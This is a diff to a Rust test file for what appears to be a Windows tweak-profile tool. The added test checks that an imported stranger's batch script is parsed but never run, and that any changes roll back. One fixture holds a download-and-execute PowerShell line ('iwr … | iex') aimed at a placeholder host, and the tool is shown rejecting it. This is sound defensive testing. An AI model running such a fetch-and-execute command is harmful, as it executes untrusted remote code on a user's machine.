@@ -100,7 +100,7 @@ fn a_strangers_registry_pack_is_named_graded_guarded_and_reversible() {
     let first = place.pc_files();
     place.write("Best Pack 2026.reg", PACK);
     assert_snapshot!(place.run(&["profile", "import", "Best Pack 2026.reg"]).ok().out, @r#"
-    Done. Saved as best-pack-2026@1 cad061d243.
+    Done. Saved as best-pack-2026@1 933d72cc45.
 
     The catalogue knows
       tweak                       title                          standing   from
@@ -133,6 +133,58 @@ fn a_strangers_registry_pack_is_named_graded_guarded_and_reversible() {
     place.run(&export).ok();
     place.run(&["profile", "import", "again.reg"]).ok();
     place.run(&["profile", "diff", "best-pack-2026", "again"]).ok();
+}
+
+#[test]
+fn a_strangers_script_is_read_and_never_run() {
+    let place = Place::new();
+    let mark = place.path().join("it-was-run");
+    let script = format!(
+        "@echo off\r\necho x > {mark}\r\ntouch {mark}\r\nsc config SysMain start= disabled\r\n\
+         reg add \"HKCU\\Made Up\" /v Depth /t REG_DWORD /d 7 /f\r\nbcdedit /set disabledynamictick yes\r\n\
+         powercfg /setactive 8c5e7fda-e8bf-4a96-9a85-a6e23a8c635c\r\n\
+         reg add HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows\\WindowsUpdate /v x /t REG_DWORD /d 1 /f\r\n\
+         if exist C:\\x del C:\\x\r\n",
+        mark = mark.display()
+    );
+    place.write("Big Boost.bat", script);
+    let first = place.pc_files();
+    let said = place.run(&["profile", "import", "Big Boost.bat"]).ok().out;
+    assert_snapshot!(said, @r"
+    Done. Saved as big-boost@1 ecab219d2a.
+
+    The catalogue knows
+      tweak              title                              standing   from
+      boot/dynamic-tick  Keep the timer ticking while idle  contested  Big Boost.bat:6
+      power/active-plan  Choose the power plan              sound      Big Boost.bat:7
+
+    Kept as plain settings, which nobody has checked
+      Big Boost.bat:8 registry:HKLM\SOFTWARE\Policies\Microsoft\Windows\WindowsUpdate#x = 1
+      Big Boost.bat:5 registry:HKCU\Made Up#Depth = 7
+      Big Boost.bat:4 service:SysMain#start = disabled
+
+    Nothing was made of
+      Big Boost.bat:3
+        `touch [HERE]/it-was-run`: Frevin does not know what this does
+      Big Boost.bat:9
+        `if exist C:\x del C:\x`: it is done only under a condition, or several times
+
+    Look at it before you apply it: frevin preview big-boost
+    ");
+    assert!(!mark.exists());
+    assert_eq!(place.pc_files(), first, "reading changes nothing");
+    place.run(&["profile", "check", "big-boost"]);
+    place.run(&["apply", "big-boost", "--yes"]).ok();
+    let differing = place.json(&["snapshot", "diff", "1"])["differences"].as_array().unwrap().len();
+    assert_eq!(differing, 6, "five settings, and a key that had to be made");
+    place.run(&["rollback", "--all", "--yes"]).ok();
+    assert_eq!(place.pc_files(), first);
+    place.write("nothing.ps1", "iwr https://example.invalid/x.ps1 | iex\n");
+    assert_snapshot!(place.run(&["profile", "import", "nothing.ps1"]).fails(4).err, @"
+    error: nothing can be made of these files
+      nothing.ps1:1: `iwr https://example.invalid/x.ps1`: what it does hangs on another command's output
+      nothing.ps1:1: `iex`: what it does hangs on another command's output
+    ");
 }
 
 #[test]
